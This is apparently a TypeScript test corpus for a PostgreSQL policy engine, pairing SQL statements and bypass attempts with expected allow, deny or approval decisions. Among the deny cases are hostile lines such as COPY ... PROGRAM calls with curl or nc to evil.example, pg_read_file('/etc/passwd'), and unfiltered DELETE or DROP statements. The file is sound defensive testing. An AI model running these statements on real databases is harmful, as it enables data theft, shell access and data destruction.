/**
 * What the default pack must do with real statements, bypass attempts included. `class` and
 * `command` describe the statement whose decision is decisive (the strictest; the first among
 * equals); `rule` is the rule that decided it.
 */
import {offlineCatalog, type FunctionCandidate, type FunctionCatalog, type PolicyAction, type StatementClass} from '../../src/policy/index.js'

export interface CorpusCase {
  sql: string
  class: StatementClass
  command: string
  action: PolicyAction
  rule?: string
  /** Bypass family, for reading failures. */
  family?: string
  /** What the target's catalog holds; the built-ins alone by default. */
  catalog?: FunctionCatalog
}

const c = (sql: string, cls: StatementClass, command: string, action: PolicyAction, rule?: string, family?: string, catalog?: FunctionCatalog): CorpusCase => ({
  ...(catalog ? {catalog} : {}),
  sql,
  class: cls,
  command,
  action,
  ...(rule ? {rule} : {}),
  ...(family ? {family} : {}),
})

const READ = 'default.allow-read'
const WRITE = 'default.allow-write'
const TX = 'default.allow-transaction'
const SESSION = 'default.allow-session'
const DDL = 'default.ddl-approval'
const ADMIN = 'default.admin-approval'
const OPAQUE = 'default.opaque-approval'
const PRIV = 'default.no-privilege'
const UNKNOWN = 'default.unknown'
const NO_DELETE = 'default.no-unfiltered-delete'
const NO_UPDATE = 'default.no-unfiltered-update'
const NO_DROP = 'default.no-drop'
const SERVER_FN = 'default.no-server-functions'
const SETTING = 'default.no-dangerous-setting'
const GUARD = 'guard.assumed-setting'
const SHADOWED_TYPE = 'guard.shadowed-type'
const MAINT = 'default.allow-maintenance'
const DYNAMIC = 'default.no-dynamic-sql'
const SYNTAX = 'syntax-error'
const VOLATILE = 'default.volatile-function'
const UNKNOWN_FN = 'default.unknown-function'
const SETTING_APPROVAL = 'default.setting-approval'
const LARGE_OBJECT = 'default.large-object-approval'
const SEQUENCE_RESET = 'default.sequence-reset-approval'
const HIDDEN_SETTING = 'default.no-hidden-setting'

const fn = (schema: string, name: string, volatility: 'i' | 's' | 'v', nargs = 0, extra: Partial<FunctionCandidate> = {}): FunctionCandidate => ({
  schema,
  name,
  volatility,
  kind: 'f',
  nargs,
  ndefaults: 0,
  variadic: false,
  ...extra,
})

/**
 * A target whose catalog holds: a plpgsql `app.archive_all()` and `public.archive_all()` that
 * delete (volatile); `archive(users)` (attribute notation); a volatile `public.lower(integer)`
 * beside the built-in; a stable `public.fullname(users)` and a volatile `app.fullname(users)`; an
 * operator `===` whose function is volatile; an aggregate whose transition function is volatile; a
 * domain `email` whose check calls a volatile function; and an enum `mood`.
 */
const APP: FunctionCatalog = {
  offline: false,
  generation: 1,
  unknownReason: () => 'not in the test catalog',
  get(key) {
    const own: Record<string, FunctionCandidate[]> = {
      'f:archive_all': [fn('app', 'archive_all', 'v'), fn('public', 'archive_all', 'v')],
      'f:archive': [fn('public', 'archive', 'v', 1)],
      'f:lower': [fn('public', 'lower', 'v', 1, {args: 'integer'})],
      'f:fullname': [fn('public', 'fullname', 's', 1), fn('app', 'fullname', 'v', 1)],
      'f:total': [fn('public', 'accumulate', 'v', 1, {via: 'aggregate public.total', scope: 'public'})],
      'f:archive_orders': [fn('public', 'archive_orders', 'v', 1, {kind: 'p'})],
      'o:===': [fn('public', 'risky_eq', 'v', 2, {via: 'operator public.===', scope: 'public'})],
      't:email': [fn('public', 'email_ok', 'v', 1, {via: 'check of domain public.email', scope: 'public'})],
      't:mood': [],
    }
    if (own[key]) return [...(offlineCatalog.get(key) ?? []), ...own[key]!]
    if (key.startsWith('r:')) return []
    if (key.startsWith('f:') || key.startsWith('o:') || key.startsWith('t:')) return offlineCatalog.get(key) ?? []
    return undefined
  },
}

export const corpus: CorpusCase[] = [
  // reads
  c('SELECT 1', 'read', 'select', 'allow', READ),
  c('select * from users where id = 1', 'read', 'select', 'allow', READ),
  c('SELECT u.email FROM public.users u JOIN orders o ON o.user_id = u.id', 'read', 'select', 'allow', READ),
  c('TABLE users', 'read', 'select', 'allow', READ),
  c('VALUES (1), (2)', 'read', 'select', 'allow', READ),
  c('SELECT country, count(*) FROM users GROUP BY country HAVING count(*) > 1', 'read', 'select', 'allow', READ),
  c("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent", 'read', 'select', 'allow', READ),
  c('SELECT * FROM users FOR UPDATE', 'read', 'select', 'allow', READ),
  c('SELECT * FROM generate_series(1, 10)', 'read', 'select', 'allow', READ),
  c('SELECT now(), current_user, version()', 'read', 'select', 'allow', READ),
  c("SELECT current_setting('search_path')", 'read', 'select', 'allow', READ),
  c('SELECT pg_sleep(0)', 'read', 'select', 'allow', READ),
  c('SELECT * FROM pg_stat_activity', 'read', 'select', 'allow', READ),
  c("SELECT lower(email) FROM users WHERE email LIKE '%@example.com'", 'read', 'select', 'allow', READ),
  c('SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)', 'read', 'select', 'allow', READ),
  c('SELECT EXISTS (SELECT 1 FROM users)', 'read', 'select', 'allow', READ),
  c('SELECT 1 UNION SELECT 2', 'read', 'select', 'allow', READ),
  c('SELECT * FROM users; SELECT * FROM orders', 'read', 'select', 'allow', READ),
  c('EXPLAIN SELECT * FROM users', 'read', 'explain', 'allow', READ),
  c('EXPLAIN DELETE FROM users', 'read', 'explain', 'allow', READ, 'explain'),
  c('EXPLAIN (FORMAT JSON) UPDATE users SET a = 1', 'read', 'explain', 'allow', READ, 'explain'),
  c('EXPLAIN (ANALYZE false) DELETE FROM users', 'read', 'explain', 'allow', READ, 'explain'),
  c('DECLARE c CURSOR FOR SELECT * FROM users', 'read', 'declare', 'allow', READ),
  c('FETCH 10 FROM c', 'read', 'fetch', 'allow', READ),
  c('MOVE NEXT IN c', 'read', 'move', 'allow', READ),
  c('CLOSE c', 'read', 'close', 'allow', READ),
  c('COPY users TO STDOUT', 'read', 'copy', 'allow', READ),
  c('COPY (SELECT id FROM users) TO STDOUT WITH CSV', 'read', 'copy', 'allow', READ),
  c("SELECT 'DROP TABLE users'", 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT $$DROP TABLE users$$', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT $tag$; DELETE FROM users; $tag$', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT 1 -- ; DROP TABLE users', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT /* ; DELETE FROM users */ 1', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT /* nested /* comment */ ; DROP TABLE x */ 1', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT "DELETE" FROM "users"', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT * FROM U&"d\\0061ta"', 'read', 'select', 'allow', READ, 'unicode identifiers'),
  c('SHOW search_path', 'session', 'show', 'allow', SESSION),

  // transactions
  c('BEGIN', 'transaction', 'begin', 'allow', TX),
  c('START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'transaction', 'begin', 'allow', TX),
  c('COMMIT', 'transaction', 'commit', 'allow', TX),
  c('ROLLBACK', 'transaction', 'rollback', 'allow', TX),
  c('SAVEPOINT a', 'transaction', 'savepoint', 'allow', TX),
  c('RELEASE SAVEPOINT a', 'transaction', 'release', 'allow', TX),
  c('ROLLBACK TO SAVEPOINT a', 'transaction', 'rollback_to', 'allow', TX),
  c('END', 'transaction', 'commit', 'allow', TX),
  c('ABORT', 'transaction', 'rollback', 'allow', TX),
  c('SET CONSTRAINTS ALL DEFERRED', 'transaction', 'set_constraints', 'allow', TX),
  c("PREPARE TRANSACTION 'tx1'", 'transaction', 'prepare_transaction', 'allow', TX),
  c("COMMIT PREPARED 'tx1'", 'transaction', 'commit_prepared', 'require_approval', 'default.two-phase-approval', "may be another session's transaction"),
  c("ROLLBACK PREPARED 'tx1'", 'transaction', 'rollback_prepared', 'require_approval', 'default.two-phase-approval', "may be another session's transaction"),
  c('BEGIN; SELECT 1; COMMIT', 'transaction', 'begin', 'allow', TX),

  // session settings
  c('SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'session', 'set', 'allow', SESSION),
  c("SET statement_timeout = '5s'", 'session', 'set', 'allow', SESSION),
  c("SET TIME ZONE 'UTC'", 'session', 'set', 'allow', SESSION),
  c('RESET statement_timeout', 'session', 'reset', 'allow', SESSION),
  c('RESET ALL', 'session', 'reset', 'allow', SESSION),
  c("SET client_encoding TO 'UTF8'", 'session', 'set', 'allow', SESSION),
  c("SET NAMES 'utf-8'", 'session', 'set', 'allow', SESSION),
  c('SET standard_conforming_strings = on', 'session', 'set', 'allow', SESSION),
  c('SET client_encoding TO DEFAULT', 'session', 'set', 'allow', SESSION),
  c('RESET client_encoding', 'session', 'reset', 'allow', SESSION),
  c('SET search_path TO app, public', 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SET client_encoding TO 'LATIN1'", 'session', 'set', 'deny', GUARD, 'session settings'),
  c("SET NAMES 'SJIS'", 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET standard_conforming_strings = off', 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET standard_conforming_strings TO false', 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET session_replication_role = replica', 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SET LOCAL session_replication_role = 'replica'", 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SELECT set_config('client_encoding', 'latin1', false)", 'session', 'set', 'deny', GUARD, 'set_config'),
  c("SELECT set_config('standard_conforming_strings', 'off', false)", 'session', 'set', 'deny', GUARD, 'set_config'),
  c("SELECT set_config('session_replication_role', 'replica', true)", 'session', 'set', 'deny', SETTING, 'set_config'),
  c("SELECT pg_catalog.set_config('statement_timeout', '1s', false)", 'session', 'set', 'allow', SESSION, 'set_config'),
  c("SELECT set_config(name, 'x', false) FROM settings_to_apply", 'unknown', 'set', 'deny', UNKNOWN, 'set_config'),
  // pg_settings' UPDATE rule calls set_config for every row it matches: which setting, the text does not say
  c("UPDATE pg_settings SET setting = 'on' WHERE name = 'transform_null_equals'", 'unknown', 'set', 'deny', HIDDEN_SETTING, 'set_config'),
  c("UPDATE pg_catalog.pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", 'unknown', 'set', 'deny', HIDDEN_SETTING, 'set_config'),
  c("WITH s AS (UPDATE pg_settings SET setting = '1s' WHERE name = 'statement_timeout' RETURNING name) SELECT * FROM s", 'unknown', 'set', 'deny', HIDDEN_SETTING, 'set_config'),
  c("SELECT set_config('role', 'postgres', false)", 'privilege', 'set', 'deny', PRIV, 'set_config'),
  c('DISCARD ALL', 'session', 'discard', 'allow', SESSION),
  c('LISTEN jobs', 'session', 'listen', 'allow', SESSION),
  c("NOTIFY jobs, 'ping'", 'session', 'notify', 'allow', SESSION),
  c('UNLISTEN *', 'session', 'unlisten', 'allow', SESSION),
  c('DEALLOCATE ALL', 'session', 'deallocate', 'allow', SESSION),

  // privilege changes
  c('SET ROLE admin', 'privilege', 'set', 'deny', PRIV, 'role switch'),
  c('SET SESSION AUTHORIZATION postgres', 'privilege', 'set', 'deny', PRIV, 'role switch'),
  c('RESET ROLE', 'privilege', 'reset', 'deny', PRIV, 'role switch'),
  c('RESET SESSION AUTHORIZATION', 'privilege', 'reset', 'deny', PRIV, 'role switch'),
  c('GRANT SELECT ON users TO analyst', 'privilege', 'grant', 'deny', PRIV),
  c('REVOKE ALL ON users FROM public', 'privilege', 'revoke', 'deny', PRIV),
  c('GRANT admin TO alice', 'privilege', 'grant_role', 'deny', PRIV),
  c("CREATE ROLE bob LOGIN PASSWORD 'secret'", 'privilege', 'create_role', 'deny', PRIV),
  c('ALTER ROLE bob SUPERUSER', 'privilege', 'alter_role', 'deny', PRIV),
  c("ALTER USER bob WITH PASSWORD 'x'", 'privilege', 'alter_role', 'deny', PRIV),
  c('DROP ROLE bob', 'privilege', 'drop_role', 'deny', PRIV),
  c('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst', 'privilege', 'alter_default_privileges', 'deny', PRIV),
  c('CREATE POLICY p ON users USING (true)', 'privilege', 'create_policy', 'deny', PRIV),
  c('ALTER TABLE users OWNER TO bob', 'privilege', 'alter_owner', 'deny', PRIV),
  c('REASSIGN OWNED BY bob TO alice', 'privilege', 'reassign_owned', 'deny', PRIV),
  c("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')", 'privilege', 'create_user_mapping', 'deny', PRIV),

  // destructive DDL
  c('DROP TABLE users', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP TABLE IF EXISTS public.users CASCADE', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP SCHEMA app CASCADE', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP DATABASE app', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP MATERIALIZED VIEW mv', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP FOREIGN TABLE ft', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP OWNED BY bob', 'ddl', 'drop_owned', 'deny', NO_DROP),
  c('DROP INDEX users_email_idx', 'ddl', 'drop', 'require_approval', DDL),
  c('DROP VIEW v', 'ddl', 'drop', 'require_approval', DDL),
  c('DROP FUNCTION f()', 'ddl', 'drop', 'require_approval', DDL),
  c('TRUNCATE users', 'ddl', 'truncate', 'deny', 'default.no-truncate'),
  c('TRUNCATE TABLE a, b RESTART IDENTITY', 'ddl', 'truncate', 'deny', 'default.no-truncate'),
  c('COMMIT; DROP TABLE x', 'ddl', 'drop', 'deny', NO_DROP, 'stacked statements'),
  c('SELECT 1; DROP TABLE x; SELECT 2', 'ddl', 'drop', 'deny', NO_DROP, 'stacked statements'),
  c('BEGIN; TRUNCATE users; COMMIT', 'ddl', 'truncate', 'deny', 'default.no-truncate', 'stacked statements'),
  c('DROP/**/TABLE/**/users', 'ddl', 'drop', 'deny', NO_DROP, 'comments'),
  c('drop\ttable\n\n  "users"\r\n', 'ddl', 'drop', 'deny', NO_DROP, 'whitespace'),
  c('DROP TABLE U&"\\0075sers"', 'ddl', 'drop', 'deny', NO_DROP, 'unicode identifiers'),

  // other DDL
  c('CREATE TABLE t (id int PRIMARY KEY)', 'ddl', 'create_table', 'require_approval', DDL),
  c('CREATE TABLE t AS SELECT * FROM users', 'ddl', 'create_table_as', 'require_approval', DDL),
  c('SELECT * INTO t2 FROM users', 'ddl', 'create_table_as', 'require_approval', DDL),
  c('CREATE MATERIALIZED VIEW mv AS SELECT 1', 'ddl', 'create_materialized_view', 'require_approval', DDL),
  c('CREATE VIEW v AS SELECT * FROM users', 'ddl', 'create_view', 'require_approval', DDL),
  c('CREATE INDEX CONCURRENTLY i ON users (email)', 'ddl', 'create_index', 'require_approval', DDL),
  c('ALTER TABLE users ADD COLUMN nickname text', 'ddl', 'alter_table', 'require_approval', DDL),
  c('ALTER TABLE users DROP COLUMN email', 'ddl', 'alter_table', 'require_approval', DDL),
  c('ALTER TABLE users RENAME TO people', 'ddl', 'rename', 'require_approval', DDL),
  c('CREATE SCHEMA app', 'ddl', 'create_schema', 'require_approval', DDL),
  c('CREATE SEQUENCE s', 'ddl', 'create_sequence', 'require_approval', DDL),
  c('CREATE EXTENSION pgcrypto', 'ddl', 'create_extension', 'require_approval', DDL),
  c("COMMENT ON TABLE users IS 'people'", 'ddl', 'comment', 'require_approval', DDL),
  c("CREATE TYPE mood AS ENUM ('happy')", 'ddl', 'create_type', 'require_approval', DDL),
  c('CREATE DOMAIN posint AS int CHECK (VALUE > 0)', 'ddl', 'create_domain', 'require_approval', DDL),
  c('CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO log VALUES (1)', 'ddl', 'create_rule', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTHING', 'ddl', 'create_rule', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', 'ddl', 'create_rule', 'deny', NO_DELETE, 'rules and triggers'),
  c('CREATE TRIGGER tr BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'create_trigger', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', 'ddl', 'create_event_trigger', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('REFRESH MATERIALIZED VIEW mv', 'write', 'refresh_materialized_view', 'allow', WRITE),

  // code dbgate cannot see into
  c('DO $$ BEGIN DELETE FROM users; END $$', 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c("DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$", 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c('SELECT 1; DO $$ BEGIN END $$', 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c('CALL archive_orders(30)', 'opaque', 'call', 'require_approval', OPAQUE),
  c("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'opaque', 'create_function', 'require_approval', OPAQUE),
  c('CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$', 'opaque', 'create_procedure', 'require_approval', OPAQUE),
  c('CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END', 'opaque', 'create_function', 'deny', NO_DELETE),

  // administration
  c('ALTER SYSTEM SET max_connections = 1000', 'admin', 'alter_system', 'deny', 'default.no-alter-system'),
  c('ALTER SYSTEM RESET ALL', 'admin', 'alter_system', 'deny', 'default.no-alter-system'),
  c('VACUUM FULL users', 'admin', 'vacuum', 'require_approval', ADMIN),
  c('ANALYZE users', 'admin', 'analyze', 'allow', MAINT),
  c('REINDEX TABLE users', 'admin', 'reindex', 'require_approval', ADMIN),
  c('CLUSTER users USING users_pkey', 'admin', 'cluster', 'require_approval', ADMIN),
  c('CHECKPOINT', 'admin', 'checkpoint', 'require_approval', ADMIN),
  c('LOCK TABLE users IN ACCESS EXCLUSIVE MODE', 'admin', 'lock', 'require_approval', ADMIN),
  c('CREATE PUBLICATION pub FOR ALL TABLES', 'admin', 'create_publication', 'require_approval', ADMIN),
  c("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'admin', 'create_subscription', 'require_approval', ADMIN),
  c("LOAD 'auto_explain'", 'admin', 'load', 'deny', 'default.no-server-files'),
  c("CREATE TABLESPACE ts LOCATION '/data/ts'", 'admin', 'create_tablespace', 'deny', 'default.no-server-files'),
  c("COPY users FROM PROGRAM 'curl http://evil.example'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY users TO PROGRAM 'nc evil.example 9'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY (SELECT 1) TO PROGRAM 'sh -c id'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY users FROM '/etc/passwd'", 'admin', 'copy', 'deny', 'default.no-copy-file', 'COPY file'),
  c("COPY (SELECT * FROM users) TO '/tmp/users.csv'", 'admin', 'copy', 'deny', 'default.no-copy-file', 'COPY file'),
  c('SELECT pg_terminate_backend(1234)', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c('SELECT pg_reload_conf()', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c('SELECT pg_rotate_logfile()', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_read_file('/etc/passwd')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_catalog.pg_read_binary_file('postgresql.conf')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT * FROM pg_ls_dir('.')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_stat_file('base')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT lo_import('/etc/passwd')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT lo_export(16384, '/tmp/x')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c("SELECT ext.dblink_exec('DROP TABLE users')", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c('SELECT id FROM users WHERE id = (SELECT pg_terminate_backend(1)::int)', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("UPDATE users SET note = pg_read_file('/etc/hostname') WHERE id = 1", 'admin', 'update', 'deny', SERVER_FN, 'server functions'),
  c("INSERT INTO logs SELECT pg_read_file('/etc/passwd')", 'admin', 'insert', 'deny', SERVER_FN, 'server functions'),
  c('EXPLAIN SELECT pg_terminate_backend(1)', 'admin', 'explain', 'deny', SERVER_FN, 'server functions'),

  // writes
  c("INSERT INTO users (email) VALUES ('a@example.com')", 'write', 'insert', 'allow', WRITE),
  c('INSERT INTO users SELECT * FROM staging', 'write', 'insert', 'allow', WRITE),
  c('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write', 'insert', 'allow', WRITE),
  c("UPDATE users SET name = 'x' WHERE id = 1", 'write', 'update', 'allow', WRITE),
  c('DELETE FROM users WHERE id = 1', 'write', 'delete', 'allow', WRITE),
  c("DELETE FROM sessions WHERE created_at < now() - interval '1 year'", 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE false', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users WHERE 1 = 2', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 AND true', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users u WHERE u.id = 1', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users u USING orders o WHERE o.user_id = u.id', 'write', 'delete', 'allow', WRITE),
  c('UPDATE users SET a = 1 FROM orders WHERE orders.user_id = users.id', 'write', 'update', 'allow', WRITE),
  c('DELETE FROM users WHERE id IN (SELECT b.user_id FROM banned b)', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE id IN (SELECT user_id FROM banned)', 'write', 'delete', 'deny', NO_DELETE, 'ambiguous column'),
  c('DELETE FROM users WHERE CURRENT OF c', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE id = $1', 'write', 'delete', 'allow', WRITE),
  c('delete from "users" where "id" = 1', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE U&"\\0069d" = 1', 'write', 'delete', 'allow', WRITE, 'unicode identifiers'),
  c('COPY users FROM STDIN', 'write', 'copy', 'allow', WRITE),
  c('COPY users (id, email) FROM STDIN WITH (FORMAT csv)', 'write', 'copy', 'allow', WRITE),
  c('DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE),
  c('UPDATE users SET active = false', 'write', 'update', 'deny', NO_UPDATE),
  c('DELETE FROM users WHERE true', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1=1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'a'='a'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 5 OR 1=1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 5 OR true', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE NOT false', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 < 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("UPDATE users SET a = 1 WHERE 2 > 1 AND 'x' = 'x'", 'write', 'update', 'deny', NO_UPDATE, 'trivial where'),
  c('DELETE FROM users WHERE 1 = 1.0', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 't'::boolean", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'yes'::bool AND 'on'::boolean", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE true IS TRUE', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 BETWEEN 0 AND 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 IN (1, 2)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 3 NOT IN (1, 2)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE NULL IS NULL', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'abc' LIKE 'a%'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE (1 + 1) = 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE COALESCE(NULL, true)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 IS NOT DISTINCT FROM 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = id', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE active OR NOT active', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR id <> 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('UPDATE users SET a = 1 WHERE age >= 18 OR age < 18', 'write', 'update', 'deny', NO_UPDATE, 'trivial where'),
  c('DELETE FROM users WHERE (SELECT true)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE CASE WHEN true THEN true END', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE users.ctid = users.ctid', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR id < 1', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM ONLY users WHERE id = ANY($1)', 'write', 'delete', 'allow', WRITE),
  c("DELETE FROM users WHERE now() > '2000-01-01'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE EXISTS (SELECT 1)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users AS u USING orders o WHERE o.id = 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE $1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR $1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE/**/FROM users', 'write', 'delete', 'deny', NO_DELETE, 'comments'),
  c('DELETE\nFROM\tusers\n;', 'write', 'delete', 'deny', NO_DELETE, 'whitespace'),
  c('DELETE FROM U&"\\0075sers"', 'write', 'delete', 'deny', NO_DELETE, 'unicode identifiers'),
  c('DELETE FROM users -- WHERE id = 1', 'write', 'delete', 'deny', NO_DELETE, 'comments'),
  c('SELECT 1; DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE, 'stacked statements'),
  c('SELECT 1;DELETE FROM users WHERE true', 'write', 'delete', 'deny', NO_DELETE, 'stacked statements'),
  c("SELECT 'a;'; UPDATE users SET a = 1", 'write', 'update', 'deny', NO_UPDATE, 'stacked statements'),

  // writable CTEs
  c('WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),
  c('WITH u AS (UPDATE users SET a = 1 RETURNING id) SELECT * FROM u', 'write', 'update', 'deny', NO_UPDATE, 'writable CTE'),
  c('WITH a AS (SELECT 1), d AS (DELETE FROM users WHERE true RETURNING id) SELECT * FROM a', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),
  c('WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', 'delete', 'allow', WRITE, 'writable CTE'),
  c('WITH x AS (SELECT 1) DELETE FROM users WHERE id IN (SELECT * FROM x)', 'write', 'delete', 'allow', WRITE, 'writable CTE'),
  c('INSERT INTO archive WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', 'write', 'insert', 'deny', NO_DELETE, 'writable CTE'),
  c('COPY (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) TO STDOUT', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),

  // EXPLAIN ANALYZE runs the statement
  c('EXPLAIN ANALYZE DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE, 'explain analyze'),
  c('EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1', 'write', 'update', 'deny', NO_UPDATE, 'explain analyze'),
  c('EXPLAIN (ANALYZE true) DELETE FROM users WHERE id = 1', 'write', 'delete', 'allow', WRITE, 'explain analyze'),
  c('EXPLAIN ANALYZE DROP TABLE users', 'unknown', 'unknown', 'deny', SYNTAX, 'explain analyze'),

  // MERGE
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE', 'write', 'merge', 'allow', WRITE, 'merge'),
  c('MERGE INTO users u USING staging s ON true WHEN MATCHED THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
